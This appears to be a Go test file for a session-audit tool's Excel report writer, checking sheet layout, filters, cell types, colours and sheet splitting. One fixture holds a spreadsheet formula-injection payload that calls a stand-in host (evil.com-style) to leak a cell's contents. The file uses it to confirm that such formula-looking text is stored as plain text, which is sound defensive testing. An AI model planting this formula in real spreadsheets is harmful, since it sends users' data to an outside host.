@@ -1,0 +1,343 @@
+package report
+
+import (
+	"archive/zip"
+	"fmt"
+	"io"
+	"regexp"
+	"sort"
+	"strings"
+	"path/filepath"
+	"strconv"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/xuri/excelize/v2"
+)
+
+const formulaBrowser = `=HYPERLINK("http://evil.example/?leak="&A1,"Chrome")`
+
+var findingColumns = []Column{
+	{Label: "Check", Width: 26},
+	{Label: "Severity", Kind: Severity},
+	{Label: "User", Width: 28},
+	{Label: "Session", Width: 20},
+	{Label: "Observed", Kind: Time},
+	{Label: "Detail", Width: 60, Wrap: true},
+}
+
+func findingRows(n int) *sliceRows {
+	r := newRows([]string{"check_id", "severity", "username", "session_id", "observed", "detail"})
+	for i := range n {
+		sev := severities[i%len(severities)]
+		r.rows = append(r.rows, []any{
+			"check_" + sev, sev, fmt.Sprintf("user%d@example.com", i),
+			fmt.Sprintf("0Ak%015d", i), at("2026-03-01T08:00:00Z").Add(time.Duration(i) * time.Minute),
+			fmt.Sprintf("finding %d: a session that outlived its user's deactivation by several days and is still valid", i),
+		})
+	}
+	return r
+}
+
+var sessionColumns = []Column{
+	{Label: "User", Width: 26},
+	{Label: "Session", Width: 20},
+	{Label: "Created", Kind: Time},
+	{Label: "Valid for (s)", Kind: Number},
+	{Label: "Latitude", Kind: Number},
+	{Label: "Current", Width: 9},
+	{Label: "Browser", Width: 30},
+}
+
+func sessionSheetRows() *sliceRows {
+	r := newRows([]string{"username", "session_id", "created", "num_seconds_valid", "latitude", "is_current", "browser"})
+	for i, u := range []string{"ana@example.com", "ana@example.com", "ben@example.com", "cy@example.com", "cy@example.com", "cy@example.com"} {
+		browser := any("Chrome 122")
+		switch i {
+		case 2:
+			browser = formulaBrowser
+		case 4:
+			browser = nil
+		}
+		r.rows = append(r.rows, []any{u, fmt.Sprintf("0Ak%015d", i), at("2026-02-28T23:59:59Z").Add(time.Duration(i) * time.Hour), int64(7200), -33.8688, i%2 == 0, browser})
+	}
+	return r
+}
+
+func sampleSummary() Summary {
+	return Summary{
+		Title:       "Session audit — example org",
+		AsOf:        at("2026-03-02T00:00:00Z"),
+		GeneratedAt: at("2026-03-02T06:30:12Z"),
+		Version:     "v0.1.0",
+		Inputs: []InputStats{
+			{File: "AuthSession-2026-03-01.csv.gz", Kind: "sessions", Format: "Bulk API CSV (gzip)", Read: 12040, Loaded: 12000, Duplicates: 30, Rejected: 10, Earliest: at("2026-02-01T00:00:00Z"), Latest: at("2026-03-01T23:59:00Z")},
+			{File: "LoginHistory.csv", Kind: "logins", Format: "Setup download CSV", Read: 250000, Loaded: 249990, Rejected: 10, Earliest: at("2025-09-01T00:00:00Z"), Latest: at("2026-03-01T23:00:00Z")},
+			{File: "User.csv", Kind: "users", Format: "Bulk API CSV", Read: 800, Loaded: 800},
+		},
+		Checks: []CheckStats{
+			{ID: "deactivated_user_session", Title: "Sessions of deactivated users", Severity: "critical", Counts: map[string]int64{"critical": 2}},
+			{ID: "impossible_travel", Title: "Logins from places too far apart for the time between them", Severity: "high", Counts: map[string]int64{"high": 5, "medium": 1}},
+			{ID: "long_lived_session", Title: "Sessions valid longer than policy allows", Severity: "medium", Counts: map[string]int64{"medium": 1204, "low": 3}},
+			{ID: "legacy_tls", Title: "Logins over a legacy TLS version", Severity: "low", Counts: map[string]int64{"low": 17}},
+			{ID: "api_only_user", Title: "Interactive sessions of API-only users", Severity: "info", Counts: map[string]int64{}},
+		},
+		Removals: 7,
+		Rejects:  20,
+	}
+}
+
+// mustWriteXLSX writes wb with the given row limit and opens the result.
+func mustWriteXLSX(tb testing.TB, wb Workbook, rowLimit int) *excelize.File {
+	tb.Helper()
+	path := filepath.Join(tb.TempDir(), "report.xlsx")
+	if err := writeXLSX(path, wb, rowLimit); err != nil {
+		tb.Fatal(err)
+	}
+	f, err := excelize.OpenFile(path)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	tb.Cleanup(func() { f.Close() })
+	return f
+}
+
+func sampleWorkbook(findings int) Workbook {
+	return Workbook{
+		Summary: sampleSummary(),
+		Sheets: []Sheet{
+			{Name: "Findings", Columns: findingColumns, Rows: findingRows(findings)},
+			{Name: "Sessions", Columns: sessionColumns, Rows: sessionSheetRows(), GroupBy: "User"},
+			{Name: "Rejects", Columns: []Column{{Label: "File"}, {Label: "Line", Kind: Number}}, Rows: newRows([]string{"file", "line"})},
+		},
+	}
+}
+
+func TestWriteXLSXSheets(t *testing.T) {
+	f := mustWriteXLSX(t, sampleWorkbook(5), excelize.TotalRows)
+
+	if diff := cmp.Diff([]string{"Summary", "Findings", "Sessions", "Rejects"}, f.GetSheetList()); diff != "" {
+		t.Errorf("sheets (-want +got):\n%s", diff)
+	}
+	props, err := f.GetDocProps()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if props.Title != "Session audit — example org" || props.Creator != "sessionaudit" {
+		t.Errorf("got title %q and creator %q, want the summary's title and sessionaudit", props.Title, props.Creator)
+	}
+
+	filters := map[string]string{}
+	for _, d := range f.GetDefinedName() {
+		if d.Name == "_xlnm._FilterDatabase" {
+			filters[d.Scope] = d.RefersTo
+		}
+	}
+	wantFilters := map[string]string{"Findings": "'Findings'!$A$1:$F$6", "Sessions": "'Sessions'!$A$1:$G$7", "Rejects": "'Rejects'!$A$1:$B$1"}
+	if diff := cmp.Diff(wantFilters, filters); diff != "" {
+		t.Errorf("autofilter names (-want +got):\n%s", diff)
+	}
+	// The name alone does not show the drop-downs: each sheet needs its element.
+	if diff := cmp.Diff([]string{`<autoFilter ref="A1:B1">`, `<autoFilter ref="A1:F6">`, `<autoFilter ref="A1:G7">`}, autoFilterElements(t, f.Path)); diff != "" {
+		t.Errorf("autofilter elements (-want +got):\n%s", diff)
+	}
+	for _, sheet := range []string{"Findings", "Sessions", "Rejects"} {
+		panes, err := f.GetPanes(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
+			t.Errorf("%s: got panes %+v, want the header row frozen", sheet, panes)
+		}
+		style := mustCellStyle(t, f, sheet, "A1")
+		if !style.Font.Bold || len(style.Fill.Color) == 0 {
+			t.Errorf("%s: header style %+v is not bold with a fill", sheet, style)
+		}
+	}
+}
+
+func TestWriteXLSXCells(t *testing.T) {
+	f := mustWriteXLSX(t, sampleWorkbook(5), excelize.TotalRows)
+
+	t.Run("formula-looking text stays text", func(t *testing.T) {
+		const cell = "G4" // the third session's browser
+		if got := mustCellValue(t, f, "Sessions", cell); got != formulaBrowser {
+			t.Errorf("got %q, want %q", got, formulaBrowser)
+		}
+		if formula, err := f.GetCellFormula("Sessions", cell); err != nil || formula != "" {
+			t.Errorf("got formula %q (err %v), want none", formula, err)
+		}
+		if typ, err := f.GetCellType("Sessions", cell); err != nil || typ != excelize.CellTypeInlineString {
+			t.Errorf("got cell type %v (err %v), want an inline string", typ, err)
+		}
+	})
+
+	t.Run("times are date-times", func(t *testing.T) {
+		raw, err := f.GetCellValue("Findings", "E2", excelize.Options{RawCellValue: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		serial, err := strconv.ParseFloat(raw, 64)
+		if err != nil {
+			t.Fatalf("got raw value %q, want a serial number", raw)
+		}
+		got, err := excelize.ExcelDateToTime(serial, false)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if want := at("2026-03-01T08:00:00Z"); !got.Equal(want) {
+			t.Errorf("got %v, want %v", got, want)
+		}
+		if typ, _ := f.GetCellType("Findings", "E2"); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
+			t.Errorf("got cell type %v, want a number", typ)
+		}
+		style := mustCellStyle(t, f, "Findings", "E2")
+		if style.CustomNumFmt == nil || *style.CustomNumFmt != excelTime {
+			t.Errorf("got number format %v, want %q", style.CustomNumFmt, excelTime)
+		}
+		if got := mustCellValue(t, f, "Findings", "E2"); got != "2026-03-01 08:00:00" {
+			t.Errorf("got shown value %q, want 2026-03-01 08:00:00", got)
+		}
+	})
+
+	t.Run("numbers and bools keep their type", func(t *testing.T) {
+		for cell, want := range map[string]excelize.CellType{"D2": excelize.CellTypeUnset, "E2": excelize.CellTypeUnset, "F2": excelize.CellTypeBool} {
+			if typ, _ := f.GetCellType("Sessions", cell); typ != want {
+				t.Errorf("%s: got cell type %v, want %v", cell, typ, want)
+			}
+		}
+		if got := mustCellValue(t, f, "Sessions", "E2"); got != "-33.8688" {
+			t.Errorf("got %q, want -33.8688", got)
+		}
+	})
+
+	t.Run("severity cells are coloured", func(t *testing.T) {
+		for row, sev := range severities {
+			cell := fmt.Sprintf("B%d", row+2)
+			if got := mustCellValue(t, f, "Findings", cell); got != sev {
+				t.Fatalf("%s: got %q, want %q", cell, got, sev)
+			}
+			style := mustCellStyle(t, f, "Findings", cell)
+			if diff := cmp.Diff([]string{severityColours[sev].fill}, style.Fill.Color); diff != "" {
+				t.Errorf("%s fill (-want +got):\n%s", sev, diff)
+			}
+		}
+	})
+
+	t.Run("groups are banded", func(t *testing.T) {
+		// ana (rows 2-3) unshaded, ben (4) shaded, cy (5-7) unshaded.
+		want := []bool{false, false, true, false, false, false}
+		for i, shaded := range want {
+			cell := fmt.Sprintf("A%d", i+2)
+			style := mustCellStyle(t, f, "Sessions", cell)
+			if got := len(style.Fill.Color) > 0; got != shaded {
+				t.Errorf("%s: got shaded %v, want %v", cell, got, shaded)
+			}
+		}
+	})
+}
+
+func TestWriteXLSXSplitsLongSheets(t *testing.T) {
+	const limit = 5 // header plus four rows a sheet
+	f := mustWriteXLSX(t, sampleWorkbook(10), limit)
+
+	if diff := cmp.Diff([]string{"Summary", "Findings", "Findings (2)", "Findings (3)", "Sessions", "Sessions (2)", "Rejects"}, f.GetSheetList()); diff != "" {
+		t.Errorf("sheets (-want +got):\n%s", diff)
+	}
+	var sessions []string
+	for _, sheet := range []string{"Findings", "Findings (2)", "Findings (3)"} {
+		rows, err := f.GetRows(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if diff := cmp.Diff(findingColumns[0].Label, rows[0][0]); diff != "" {
+			t.Errorf("%s has no header (-want +got):\n%s", sheet, diff)
+		}
+		if len(rows) > limit {
+			t.Errorf("%s: got %d rows, want at most %d", sheet, len(rows), limit)
+		}
+		for _, r := range rows[1:] {
+			sessions = append(sessions, r[3])
+		}
+		if panes, _ := f.GetPanes(sheet); !panes.Freeze {
+			t.Errorf("%s: header not frozen", sheet)
+		}
+	}
+	var want []string
+	for _, r := range findingRows(10).rows {
+		want = append(want, r[3].(string))
+	}
+	if diff := cmp.Diff(want, sessions); diff != "" {
+		t.Errorf("finding rows across the sheets (-want +got):\n%s", diff)
+	}
+	// Sessions' second part continues cy's group, still unshaded.
+	if style := mustCellStyle(t, f, "Sessions (2)", "A2"); len(style.Fill.Color) > 0 {
+		t.Errorf("got cy's continued group shaded, want it unshaded as on the first part")
+	}
+}
+
+func TestWriteXLSXRejectsMismatchedColumns(t *testing.T) {
+	wb := Workbook{Sheets: []Sheet{{Name: "Findings", Columns: findingColumns[:2], Rows: findingRows(1)}}}
+	path := filepath.Join(t.TempDir(), "report.xlsx")
+	if err := writeXLSX(path, wb, excelize.TotalRows); err == nil {
+		t.Fatal("got no error for 2 columns described over 6, want one")
+	}
+	assertFiles(t, filepath.Dir(path), map[string]string{})
+}
+
+// autoFilterElements returns the autoFilter elements of every worksheet in
+// the file at path, sorted.
+func autoFilterElements(tb testing.TB, path string) []string {
+	tb.Helper()
+	z, err := zip.OpenReader(path)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	defer z.Close()
+	var got []string
+	for _, file := range z.File {
+		if !strings.HasPrefix(file.Name, "xl/worksheets/") {
+			continue
+		}
+		r, err := file.Open()
+		if err != nil {
+			tb.Fatal(err)
+		}
+		b, err := io.ReadAll(r)
+		r.Close()
+		if err != nil {
+			tb.Fatal(err)
+		}
+		for _, m := range regexp.MustCompile(`<autoFilter ref="[^"]*">`).FindAllString(string(b), -1) {
+			got = append(got, strings.ReplaceAll(m, "$", "")) // excelize writes absolute references
+		}
+	}
+	sort.Strings(got)
+	return got
+}
+
+func mustCellValue(tb testing.TB, f *excelize.File, sheet, cell string) string {
+	tb.Helper()
+	v, err := f.GetCellValue(sheet, cell)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	return v
+}
+
+func mustCellStyle(tb testing.TB, f *excelize.File, sheet, cell string) *excelize.Style {
+	tb.Helper()
+	id, err := f.GetCellStyle(sheet, cell)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	style, err := f.GetStyle(id)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	if style.Font == nil {
+		style.Font = &excelize.Font{}
+	}
+	return style
+}
